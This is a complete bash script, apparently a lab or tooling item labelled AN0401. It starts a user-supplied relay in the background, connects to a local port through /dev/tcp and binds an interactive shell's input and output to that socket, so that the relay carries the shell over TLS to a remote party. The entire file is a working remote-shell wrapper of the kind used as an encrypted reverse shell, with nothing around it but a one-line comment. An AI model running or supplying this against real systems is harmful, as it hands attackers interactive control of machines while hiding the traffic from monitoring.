#!/bin/bash
# AN0401: an interactive shell that talks in clear to a relay on this host, which talks over TLS: relayed-shell.sh PORT RELAY ARGUMENTS…
set -u
port=$1
shift
"$@" &
relay=$!
until exec 5<> "/dev/tcp/127.0.0.1/$port"; do sleep 0.1; done 2> /dev/null
"${SHELL_PROGRAM:-/bin/bash}" -i <&5 >&5 2>&1
code=$?
exec 5>&-
kill "$relay" 2> /dev/null
exit "$code"
